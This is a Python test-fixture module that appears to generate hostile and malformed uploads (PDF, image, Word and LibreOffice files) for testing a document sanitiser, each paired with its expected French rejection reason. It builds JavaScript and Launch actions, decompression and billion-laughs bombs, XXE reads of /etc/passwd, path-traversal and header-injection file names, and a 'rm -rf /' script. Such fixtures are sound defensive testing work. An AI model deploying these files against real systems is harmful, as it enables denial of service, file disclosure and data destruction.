"""Hostile and odd files, each made here: (name, content, what becomes of it).

What becomes of it: words of the French reason that refuses it, or SAFE, a PDF in which nothing acts.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

SAFE = "safe"
EITHER = ""  # as its libraries see fit
HEIC = Path(__file__).with_name("data") / "photo.heic"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

_corpus: dict[str, tuple[Callable[[], bytes], str]] = {}


def case(name: str, fate: str):
    """Declare one file by its name; the function makes its bytes."""

    def declare(make: Callable[[], bytes]):
        assert name not in _corpus
        _corpus[name] = make, fate
        return make

    return declare


def names() -> list[str]:
    return list(_corpus)


def build(name: str) -> tuple[bytes, str]:
    make, fate = _corpus[name]
    return make(), fate


def plain(name: str, content: bytes, fate: str) -> None:
    case(name, fate)(lambda: content)


# PDF


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def a_pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **options) -> bytes:
    with pikepdf.new() as pdf:
        for _ in range(pages):
            page = pdf.add_blank_page()
            page.contents_add(b"0 0 1 rg 100 100 200 200 re f")
        if change:
            change(pdf)
        return saved(pdf, **options)


@cache
def small_pdf() -> bytes:
    return a_pdf()


def javascript(pdf: pikepdf.Pdf) -> Dictionary:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert('piège')")))


def pdf_case(name: str, fate: str = SAFE, **options):
    """A PDF that the function changes."""

    def declare(change: Callable[[pikepdf.Pdf], None]):
        case(name, fate)(lambda: a_pdf(change, **options))
        return change

    return declare


@pdf_case("script à l’ouverture.pdf")
def _open_action(pdf):
    pdf.Root.OpenAction = javascript(pdf)


@pdf_case("script nommé.pdf")
def _named_script(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), javascript(pdf)])))


@pdf_case("programme lancé.pdf")
def _launch(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))


@pdf_case("script sur la page.pdf")
def _page_action(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=javascript(pdf), C=javascript(pdf))


@pdf_case("script à la fermeture.pdf")
def _close_action(pdf):
    pdf.Root.AA = Dictionary(WC=javascript(pdf), WP=javascript(pdf))


def annotation(pdf, **keys):
    page = pdf.pages[0].obj
    note = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 600, 800]), **keys))
    page.Annots = Array([*page.get("/Annots", []), note])
    return note


@pdf_case("lien qui lance.pdf")
def _launch_link(pdf):
    annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=pikepdf.String("/bin/sh")))


@pdf_case("lien caché sur toute la page.pdf")
def _page_link(pdf):
    annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=pikepdf.String("https://piege.example.org")))


@pdf_case("lien vers un fichier réseau.pdf")
def _remote_link(pdf):
    action = Dictionary(S=Name.GoToR, F=pikepdf.String(r"\\piege.example.org\partage"), D=Array([0, Name.Fit]))
    annotation(pdf, Subtype=Name.Link, A=action)


@pdf_case("actions en chaîne.pdf")
def _next_actions(pdf):
    first = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([javascript(pdf)]))
    pdf.Root.OpenAction = pdf.make_indirect(first)


@pdf_case("formulaire qui s’envoie.pdf")
def _submit(pdf):
    action = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=pikepdf.String("https://piege.example.org")))
    field = annotation(pdf, Subtype=Name.Widget, FT=Name.Btn, T=pikepdf.String("x"), A=action, Ff=65536)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


@pdf_case("script dans un champ.pdf")
def _field_script(pdf):
    field = annotation(pdf, Subtype=Name.Widget, FT=Name.Tx, T=pikepdf.String("x"), V=pikepdf.String("texte saisi"))
    field.AA = Dictionary(K=javascript(pdf), F=javascript(pdf))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]), DA=pikepdf.String("/Helv 12 Tf 0 g"))


@pdf_case("fichier attaché.pdf")
def _attachment(pdf):
    pdf.attachments["virus.exe"] = b"MZ" + EICAR


@pdf_case("fichier attaché en annotation.pdf")
def _attached_note(pdf):
    content = pdf.make_stream(EICAR, Type=Name.EmbeddedFile)
    file = Dictionary(Type=Name.Filespec, F=pikepdf.String("a.exe"), EF=Dictionary(F=content))
    annotation(pdf, Subtype=Name.FileAttachment, FS=pdf.make_indirect(file))


@pdf_case("fichiers associés.pdf")
def _associated(pdf):
    content = pdf.make_stream(b"<x/>", Type=Name.EmbeddedFile)
    file = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=pikepdf.String("a.xml"), EF=Dictionary(F=content)))
    pdf.Root.AF = Array([file])
    pdf.pages[0].obj.AF = Array([file])


@pdf_case("porte-documents.pdf")
def _portfolio(pdf):
    pdf.attachments["autre.pdf"] = small_pdf()
    pdf.Root.Collection = Dictionary(View=Name.D)


@pdf_case("vidéo et son.pdf")
def _media(pdf):
    sound = pdf.make_stream(b"\0" * 10, Type=Name.Sound)
    annotation(pdf, Subtype=Name.Sound, Sound=sound)
    annotation(pdf, Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, JS=pikepdf.String("x()")))
    annotation(pdf, Subtype=Name.Movie, Movie=Dictionary(F=pikepdf.String("film.mov")))
    annotation(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary())


@pdf_case("formulaire XFA.pdf")
def _static_xfa(pdf):
    script = pdf.make_stream(b"<xdp><script>x()</script></xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=script)


@pdf_case("formulaire XFA dynamique.pdf", "Adobe Acrobat")
def _dynamic_xfa(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp/>"))
    pdf.Root.NeedsRendering = True


@pdf_case("contenu dans un autre fichier.pdf")
def _external_stream(pdf):
    pdf.pages[0].obj.Contents = pdf.make_stream(b"", F=pikepdf.String("/etc/passwd"))


@pdf_case("action cachée dans les étiquettes.pdf")
def _tags(pdf):
    note = annotation(pdf, Subtype=Name.Link, A=javascript(pdf))
    tree = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    reference = Dictionary(Type=Name.OBJR, Obj=note, Pg=pdf.pages[0].obj)
    tree.K = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Link, P=tree, K=Array([reference])))
    pdf.Root.StructTreeRoot = tree


@pdf_case("auteur et lieu.pdf")
def _metadata(pdf):
    pdf.docinfo[Name.Author] = "Auteur secret"
    pdf.Root.Metadata = pdf.make_stream(b"<x:xmpmeta>Auteur secret</x:xmpmeta>", Type=Name.Metadata, Subtype=Name.XML)
    pdf.pages[0].obj.PieceInfo = Dictionary(Secret=pikepdf.String("Auteur secret"))


@pdf_case("sans page.pdf", "aucune page", pages=0)
def _no_page(pdf):
    pass


@case("10 000 pages.pdf", "10000 pages")
def _ten_thousand_pages():
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 10_003))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"
    tree = b"<</Type/Pages/Count 10000/Kids[%s]>>" % kids
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", tree, *[page] * 10_000)


@pdf_case("page démesurée.pdf", "démesurée")
def _huge_page(pdf):
    pdf.pages[0].mediabox = Array([0, 0, 10**9, 10**9])


@pdf_case("page sans taille.pdf", "abîmé")
def _flat_page(pdf):
    pdf.pages[0].mediabox = Array([0, 0, 0, 0])


@pdf_case("page agrandie par son unité.pdf")
def _user_unit(pdf):
    pdf.pages[0].obj.UserUnit = 75_000


@pdf_case("bombe dans la page.pdf", "trop de place")
def _flate_bomb(pdf):
    pdf.pages[0].obj.Contents = pdf.make_stream(deflated_zeros(300), Filter=Name.FlateDecode)


@pdf_case("bombe à deux étages.pdf", "trop de place", compress_streams=False)
def _double_bomb(pdf):
    twice = Array([Name.FlateDecode, Name.FlateDecode])
    pdf.pages[0].obj.Contents = pdf.make_stream(zlib.compress(deflated_zeros(300), 9), Filter=twice)


@pdf_case("image d’un milliard de pixels.pdf", "millions de pixels")
def _image_bomb(pdf):
    image = pdf.make_stream(
        b"\xff\xd8\xff", Subtype=Name.Image, Width=40_000, Height=40_000, Filter=Name.DCTDecode, BitsPerComponent=8
    )
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=image))


@pdf_case("dessin qui s’appelle lui-même.pdf")
def _drawing_loop(pdf):
    form = pdf.make_stream(b"/F Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Resources = Dictionary(XObject=Dictionary(F=form))
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(F=form))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"/F Do")


@pdf_case("tableaux emboîtés.pdf", EITHER)
def _nested(pdf):
    pdf.Root.StructTreeRoot = pikepdf.Object.parse(b"<</K " + b"[" * 400 + b"]" * 400 + b">>")


@case("arbre de pages en boucle.pdf", EITHER)
def _page_loop():
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Pages/Count 1/Kids[2 0 R]>>"
    )


@case("nombre de pages menteur.pdf", SAFE)
def _count_lies():
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 999999999/Kids[3 0 R]>>", page)


@case("bombe d’objets.pdf", EITHER)
def _object_stream_bomb():
    body = deflated_zeros(600)
    start = b"%%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 6/Filter/FlateDecode/Length %d>>stream\n" % len(body)
    xref_at = len(start) + len(body) + 17
    rows = b"\0\0\0\0\0\0" + b"\1" + (9).to_bytes(4, "big") + b"\0" + b"\2" + (1).to_bytes(4, "big") + b"\0"
    xref = b"3 0 obj<</Type/XRef/Size 3/W[1 4 1]/Root 2 0 R/Length %d>>stream\n%s\nendstream endobj\n" % (
        len(rows),
        rows,
    )
    return start + body + b"\nendstream endobj\n" + xref + b"startxref\n%d\n%%%%EOF" % xref_at


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand, from its objects 1, 2, 3…, the first of them its catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))


@cache
def deflated_zeros(megabytes: int) -> bytes:
    """So many megabytes of zeros as zlib packs them, without packing them: one block, again and again."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b"\0" * 1024**2) + packer.flush(zlib.Z_FULL_FLUSH)
    check = (megabytes * 1024**2 % 65_521) << 16 | 1
    return head + block * megabytes + b"\x03\0" + struct.pack(">I", check)


case("protégé.pdf", "protégé")(lambda: a_pdf(encryption=pikepdf.Encryption(owner="secret", user="")))
case("mot de passe.pdf", "mot de passe")(lambda: a_pdf(encryption=pikepdf.Encryption(owner="secret", user="secret")))
case("coupé.pdf", "incomplet")(lambda: a_pdf(pages=20)[:-200])
case("coupé au début.pdf", "abîmé")(lambda: b"%PDF-1.7\n" + small_pdf()[-60:])
case("seulement un début.pdf", "incomplet")(lambda: b"%PDF-1.7\n")
case("bruit.pdf", "abîmé")(lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400 + b"%%EOF")
case("PDF et page web.pdf", SAFE)(lambda: b"<html><script>alert(1)</script>" + small_pdf())
case("PDF suivi d’une page web.pdf", SAFE)(lambda: small_pdf() + b"<script>alert(1)</script>")
case("PDF et archive.pdf", SAFE)(lambda: small_pdf() + archive({"virus.exe": b"MZ" + EICAR}))
case("PDF et programme.exe", SAFE)(lambda: b"MZ\x90\0" + small_pdf())
case("PDF nommé image.jpg", SAFE)(small_pdf)
case("../../../etc/passwd.pdf", SAFE)(small_pdf)
case("C:\\Windows\\cv.pdf", SAFE)(small_pdf)
case("🦷 diplôme 🎓.pdf", SAFE)(small_pdf)
case("cv\N{RIGHT-TO-LEFT OVERRIDE}fdp.exe", SAFE)(small_pdf)
case("cv.pdf\r\nSet-Cookie: a=b", SAFE)(small_pdf)
case("x" * 500 + ".pdf", SAFE)(small_pdf)


# Pictures


def picture(kind: str, size=(60, 40), mode: str = "RGB", color: int = 0, **options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, (200, 30, 30) if mode == "RGB" else color).save(out, kind, **options)
    return out.getvalue()


def photo() -> bytes:
    """A photo that lies on its side and remembers who took it."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x013B] = 6, "Appareil secret", "Auteur secret"
    exif.get_ifd(0x8825)[2] = (48.0, 51.0, 30.0)
    return picture("JPEG", exif=exif, comment=b"Auteur secret")


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes, *extra: bytes) -> bytes:
    header = chunk(b"IHDR", struct.pack(">II", width, height) + bytes([8, 2, 0, 0, 0]))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(extra) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


case("photo couchée.jpg", SAFE)(photo)
case("photo.heic", SAFE)(HEIC.read_bytes)
case("photo nommée document.pdf", SAFE)(lambda: picture("JPEG"))
case("transparente.png", SAFE)(lambda: picture("PNG", mode="RGBA"))
case("palette.png", SAFE)(lambda: picture("PNG", mode="P"))
case("seize bits.png", SAFE)(lambda: picture("PNG", mode="I;16"))
case("imprimerie.jpg", SAFE)(lambda: picture("JPEG", mode="CMYK"))
case("photo double.jpg", SAFE)(lambda: picture("MPO", save_all=True, append_images=[Image.new("RGB", (60, 40))]))
case("photo suivie d’une archive.jpg", SAFE)(lambda: picture("JPEG") + archive({"virus.exe": EICAR}))
case("photo et page web.jpg", SAFE)(lambda: picture("JPEG", comment=b"<script>alert(1)</script>"))
case("coupée.jpg", "incomplète")(lambda: picture("JPEG", (800, 800))[:-300])
case("coupée.png", "incomplète")(lambda: picture("PNG", (800, 800))[:-200])
case("coupée.heic", "incomplète")(lambda: HEIC.read_bytes()[:-120])
case("bombe.png", "trop de pixels")(lambda: png(50_000, 50_000, zlib.compress(b"\0" * 1000)))
case("bombe.jpg", "trop de pixels")(lambda: resized(picture("JPEG"), b"\xff\xc0"))
case("bombe.heic", EITHER)(
    lambda: HEIC.read_bytes().replace(
        b"ispe\0\0\0\0" + struct.pack(">II", 64, 64), b"ispe\0\0\0\0" + b"\0\1\0\0\0\1\0\0"
    )
)
case("commentaire bombe.png", EITHER)(
    lambda: png(1, 1, zlib.compress(b"\0\0\0\0"), chunk(b"zTXt", b"x\0\0" + deflated_zeros(300)))
)
case("profil bombe.png", EITHER)(
    lambda: png(1, 1, zlib.compress(b"\0\0\0\0"), chunk(b"iCCP", b"x\0\0" + deflated_zeros(300)))
)


def resized(jpeg: bytes, marker: bytes) -> bytes:
    """The same bytes, that say they are 65 000 pixels wide and high."""
    place = jpeg.index(marker) + 5
    return jpeg[:place] + struct.pack(">HH", 65_000, 65_000) + jpeg[place + 4 :]


# Word and LibreOffice

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)
OFFICE_DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"


def archive(files: dict[str, bytes], **options) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **options) as packed:
        for name, content in files.items():
            packed.writestr(name, content)
    return out.getvalue()


def relations(*rows: tuple[str, str, str]) -> bytes:
    listed = "".join(
        f'<Relationship Id="r{number}" Type="{kind}" Target="{target}" {more}/>'
        for number, (kind, target, more) in enumerate(rows)
    )
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{namespace}">{listed}</Relationships>'.encode()


Extra = dict[str, bytes] | None
PATH = "<w:p><w:r><w:t>Parcours</w:t></w:r></w:p>"


def docx(
    body: str = "<w:p><w:r><w:t>Parcours</w:t></w:r></w:p>", dtd: str = "", extra: dict[str, bytes] | None = None
) -> bytes:
    document = f'<?xml version="1.0"?>{dtd}<w:document {W}><w:body>{body}</w:body></w:document>'.encode()
    files = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": relations((OFFICE_DOCUMENT, "word/document.xml", "")),
        "word/document.xml": document,
    }
    return archive(files | (extra or {}))


ODF = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{path}:1.0"'
    for name, path in {
        "office": "office",
        "text": "text",
        "table": "table",
        "draw": "drawing",
        "style": "style",
        "fo": "xsl-fo-compatible",
    }.items()
)
MANIFEST = b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'


def odt(body: str = "<text:p>Parcours</text:p>", dtd: str = "", extra: Extra = None) -> bytes:
    content = (
        f'<?xml version="1.0"?>{dtd}<office:document-content {ODF} xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<office:automatic-styles><style:style style:name="T1"><style:text-properties fo:font-weight="bold"/>'
        f"</style:style></office:automatic-styles>"
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    ).encode()
    files = {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": content,
        "META-INF/manifest.xml": MANIFEST,
    }
    return archive(files | (extra or {}))


LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
BILLION = f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
SECRET_FILE = '<!DOCTYPE x [<!ENTITY fichier SYSTEM "file:///etc/passwd">]>'
IMAGE_BODY = (
    '<w:p><w:r><w:drawing xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<wp:inline><wp:docPr id="1" name="x"/>'
    '<a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:{attribute}="r0"/></pic:blipFill></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
EXTERNAL = 'TargetMode="External"'
IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
MACRO = b'Attribute VB_Name = "AutoOpen"' + EICAR

case("cv.docx", SAFE)(docx)
case("cv.odt", SAFE)(odt)
case("macros.docm", SAFE)(lambda: docx(extra={"word/vbaProject.bin": MACRO}))
case("macros.odt", SAFE)(lambda: odt(extra={"Basic/Standard/Module1.xml": MACRO}))
case("mille milliards de rires.docx", EITHER)(lambda: docx("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", BILLION))
case("mille milliards de rires.odt", EITHER)(lambda: odt("<text:p>&l9;</text:p>", BILLION))
case("fichier du serveur.docx", EITHER)(lambda: docx("<w:p><w:r><w:t>&fichier;</w:t></w:r></w:p>", SECRET_FILE))
case("fichier du serveur.odt", EITHER)(lambda: odt("<text:p>&fichier;</text:p>", SECRET_FILE))
case("image du serveur.odt", SAFE)(
    lambda: odt('<text:p>Parcours<draw:frame><draw:image xlink:href="file:///etc/passwd"/></draw:frame></text:p>')
)
case("image du réseau.docx", SAFE)(
    lambda: docx(
        IMAGE_BODY.format(attribute="link") + "<w:p><w:r><w:t>Parcours</w:t></w:r></w:p>",
        extra={
            "word/_rels/document.xml.rels": relations(
                (IMAGE, "https://piege.example.org/x.png", 'TargetMode="External"')
            )
        },
    )
)
case("image bombe.docx", "trop de pixels")(
    lambda: docx(
        IMAGE_BODY.format(attribute="embed"),
        extra={
            "word/_rels/document.xml.rels": relations((IMAGE, "media/x.png", "")),
            "word/media/x.png": png(50_000, 50_000, zlib.compress(b"\0" * 1000)),
        },
    )
)
case("script dans le texte.docx", SAFE)(
    lambda: docx(
        "<w:p><w:r><w:t>&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=file:///etc/passwd&gt;</w:t></w:r></w:p>"
    )
)
case("script dans le texte.odt", SAFE)(lambda: odt("<text:p>&lt;script&gt;alert(1)&lt;/script&gt;</text:p>"))
case("millions d’espaces.odt", SAFE)(lambda: odt('<text:p>a<text:s text:c="999999999"/>b</text:p>'))
case("poupées.odt", "trop de place")(lambda: odt("<text:span>" * 200 + "x" + "</text:span>" * 200))
case("bombe zip.docx", "trop de place")(lambda: lying(docx(), 300 * 1024**2))
case("bombe de texte.docx", "trop")(lambda: docx("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 150_000))
case("vide.docx", "aucun texte")(lambda: docx(""))
case("coupé.docx", "abîmé")(lambda: docx()[:-100])
case("coupé.odt", "abîmé")(lambda: odt()[:-100])
case("taille menteuse.docx", EITHER)(lambda: lying(docx(), 1))
case("chemin qui remonte.docx", SAFE)(lambda: docx(extra={"../../../tmp/piege": b"x"}))
case("protégé.docx", "mot de passe")(
    lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000 + "EncryptedPackage".encode("utf-16-le")
)
case("protégé.odt", "mot de passe")(lambda: odt(extra={"META-INF/manifest.xml": b"<manifest:encryption-data/>"}))
case("ancien.doc", "ancienne version")(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000)
case("tableur.xlsx", "tableurs")(lambda: archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<x/>"}))
case("archive.zip", "archive")(lambda: archive({"cv.pdf": small_pdf()}))
case("archive nommée cv.pdf", "archive")(lambda: archive({"cv.pdf": small_pdf()}))
case("quarante mille fichiers.docx", "abîmé")(
    lambda: archive({f"word/{n}": b"" for n in range(20_000)} | {"[Content_Types].xml": TYPES})
)


def lying(packed: bytes, size: int) -> bytes:
    """The archive, whose inventory says that each file unfolds to so many bytes."""
    out, place = bytearray(packed), 0
    while (place := out.find(b"PK\x01\x02", place)) >= 0:
        out[place + 24 : place + 28] = struct.pack("<I", size)
        place += 4
    return bytes(out)


# Neither a document nor a picture

plain("eicar.com", EICAR, "n’est pas lisible")
plain("vide.pdf", b"", "vide")
plain("un octet.pdf", b"%", "n’est pas lisible")
plain("zéros.pdf", b"\0" * 5000, "n’est pas lisible")
plain("page.html", b"<!doctype html><script>alert(1)</script>", "n’est pas lisible")
plain("dessin nommé photo.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "SVG")
plain("dessin.svg", b"<?xml version='1.0'?><svg onload='alert(1)'/>", "n’est pas lisible")
plain("programme.exe", b"MZ\x90\0" + b"\0" * 2000, "programme")
plain("programme nommé cv.pdf", b"\x7fELF" + b"\0" * 2000, "programme")
plain("script.sh", b"#!/bin/sh\nrm -rf /\n", "programme")
plain("texte.rtf", b"{\\rtf1 {\\object\\objdata 0105}}", "RTF")
plain("archive.rar", b"Rar!\x1a\x07\0", "archive")
plain("archive.gz", b"\x1f\x8b\x08" + b"\0" * 50, "archive")
case("image.gif", "GIF")(lambda: picture("GIF"))
case("image.tif", "TIFF")(lambda: picture("TIFF"))
case("image.webp", "n’est pas accepté")(lambda: picture("WEBP"))
case("image.bmp", "BMP")(lambda: picture("BMP"))
plain("film.mp4", b"\0\0\0\x18ftypmp42" + b"\0" * 500, "vidéo")
